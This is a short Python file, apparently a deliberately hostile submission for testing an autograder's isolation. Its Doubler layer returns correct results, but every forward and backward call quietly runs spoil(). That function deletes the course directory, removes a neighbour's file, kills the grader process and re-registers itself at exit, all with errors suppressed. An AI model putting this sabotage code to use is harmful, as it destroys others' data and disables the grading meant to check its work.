"""Is right, and tries to spoil the course besides."""

import atexit
import contextlib
import os
import shutil

import numpy as np

from lib.target import COURSE, GRADER_PID, NEIGHBOUR


def spoil():
    for act in (
        lambda: shutil.rmtree(COURSE),
        lambda: os.unlink(NEIGHBOUR),
        lambda: os.kill(GRADER_PID, 9),
        lambda: open("/tmp/hostile_attack", "w"),
        lambda: atexit.register(spoil),
    ):
        with contextlib.suppress(Exception):
            act()


class Doubler:
    def forward(self, x):
        spoil()
        return 2.0 * np.asarray(x)

    def backward(self, dout):
        spoil()
        return 2.0 * np.asarray(dout)
